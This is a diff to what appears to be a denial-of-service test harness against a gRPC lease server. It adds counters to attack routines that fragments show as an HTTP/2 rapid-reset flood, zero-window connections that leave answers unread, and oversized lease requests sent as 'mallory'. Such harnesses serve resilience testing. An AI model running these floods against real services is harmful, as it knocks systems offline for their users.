@@ -45,7 +45,9 @@ async def unread_answers(victim: Victim) -> None:
     async def one() -> None:
         while True:
             with contextlib.suppress(OSError):
-                await (await connect(victim, first, window=0)).lost
+                peer = await connect(victim, first, window=0)
+                victim.achieved["calls"] += PAGES
+                await peer.lost
             await asyncio.sleep(0.1)
 
     async with asyncio.TaskGroup() as group:
@@ -62,6 +64,7 @@ async def _large_leases(victim: Victim) -> list[str]:
             spec = pb.LeaseSpec(mode=pb.LEASE_MODE_LOCAL, conf={"spark.app.name": f"{number}" + "x" * SPEC_BYTES})
             request = pb.AcquireLeaseRequest(request_id=str(uuid.uuid4()), spec=spec)
             names.append((await stub.AcquireLease(request, metadata=victim.headers("mallory"))).lease.name)
+            victim.achieved["large leases"] += 1
     return names
 
 
@@ -80,7 +83,9 @@ async def unread_watches(victim: Victim) -> None:
         )
         while True:
             with contextlib.suppress(OSError):
-                await (await connect(victim, first, window=0)).lost
+                peer = await connect(victim, first, window=0)
+                victim.achieved["watches"] += WATCHES // 20
+                await peer.lost
             await asyncio.sleep(0.1 + number / 100)
 
     async with asyncio.TaskGroup() as group:
@@ -108,6 +113,7 @@ async def rapid_reset(victim: Victim) -> None:
                             for stream in range(begin, begin + 2 * BURST, 2)
                         )
                     )
+                    victim.achieved["calls"] += BURST
                     await asyncio.sleep(0.001)
                 await peer.lost
             await asyncio.sleep(0.1)
